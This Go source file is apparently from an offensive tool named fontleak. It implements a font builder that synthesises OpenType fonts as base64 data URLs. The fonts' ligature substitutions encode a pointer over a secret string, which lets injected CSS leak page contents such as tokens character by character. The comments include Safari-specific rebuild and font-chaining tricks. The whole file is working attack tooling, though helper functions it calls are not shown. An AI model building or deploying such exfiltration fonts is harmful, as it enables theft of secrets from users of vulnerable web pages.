// Package font implements the font synthesis engine: given a leak
// alphabet and a maximum string length, it produces a binary OpenType
// font (as a base64 data URL) whose ligature substitutions encode an
// incremental pointer over a secret string, plus the step map the font
// was built against.
//
// This replaces the original tool's shell-out to svg2ttf and fonttools'
// feaLib with an in-process, pure, memoisable builder, per the explicit
// re-architecture in the design notes: no temp files, no subprocess, and
// (because the whole pipeline is deterministic integer arithmetic over
// the inputs) Generate for the same inputs always returns the same bytes.
package font

import (
	"encoding/base64"
	"fmt"

	alphabetpkg "github.com/meme-lord/fontleak/internal/alphabet"
	"github.com/meme-lord/fontleak/pkg/apperror"
)

// DefaultIdxMax is the step-map length FontBuilder uses when the caller
// does not request a specific one.
const DefaultIdxMax = 2400

// Artifact is the immutable result of a font build: a `data:` URL holding
// the base64-encoded OpenType binary, and the step map it was built
// against. Once produced it is safe to share across goroutines.
type Artifact struct {
	DataURL string
	StepMap []rune
}

// Builder synthesises OpenType fonts implementing the leak protocol's
// ligature trick. It is safe for concurrent use.
type Builder struct {
	cache *generateCache
}

// NewBuilder returns a Builder whose memoisation table holds at most
// cacheSize distinct (alphabet, idxMax, strip, prefix, prefixIdx, offset)
// results.
func NewBuilder(cacheSize int) *Builder {
	if cacheSize <= 0 {
		cacheSize = 64
	}
	return &Builder{cache: newGenerateCache(cacheSize)}
}

// Generate builds a font for the given alphabet. An idxMax <= 0 selects
// DefaultIdxMax; an idxMax that would run past the end of the index-point
// table (counting from the prefixIdx base) is rejected with a
// CodepointExhausted error rather than clamped. prefixIdx shifts the step map's starting
// offset by len(prefix) rather than 0, the mechanism the Safari per-
// position rebuild (spec §4.5) uses to address the exact string position
// it is decoding. offset shifts every leak glyph's advance width, which
// lets multiple per-position fonts used by the same stylesheet (Safari's
// sequential font chaining) occupy disjoint width ranges.
func (b *Builder) Generate(alphabet string, idxMax int, strip bool, prefix string, prefixIdx bool, offset int) (*Artifact, error) {
	if len(alphabet) > alphabetpkg.MaxLen {
		return nil, apperror.NewAlphabetTooLarge(len(alphabet))
	}
	if idxMax <= 0 {
		idxMax = DefaultIdxMax
	}

	base := 0
	if prefixIdx {
		base = len(prefix)
	}
	if base+idxMax > len(IdxPoints) {
		return nil, apperror.NewCodepointExhausted(idxMax, len(IdxPoints)-base)
	}

	key := cacheKey(alphabet, idxMax, strip, prefix, prefixIdx, offset)
	if cached, ok := b.cache.get(key); ok {
		return &Artifact{DataURL: cached.dataURL, StepMap: cached.stepMap}, nil
	}

	stepMap := append([]rune(nil), IdxPoints[base:base+idxMax]...)

	gs := buildGlyphSet(alphabet, stepMap, offset)
	lookups := buildLigaLookups(gs, strip)
	sfntBytes := assembleSFNT(gs, lookups)

	dataURL := "data:font/opentype;base64," + base64.StdEncoding.EncodeToString(sfntBytes)

	b.cache.put(key, generateResult{dataURL: dataURL, stepMap: stepMap})
	return &Artifact{DataURL: dataURL, StepMap: stepMap}, nil
}

func cacheKey(alphabet string, idxMax int, strip bool, prefix string, prefixIdx bool, offset int) string {
	return fmt.Sprintf("%s\x00%d\x00%t\x00%s\x00%t\x00%d", alphabet, idxMax, strip, prefix, prefixIdx, offset)
}
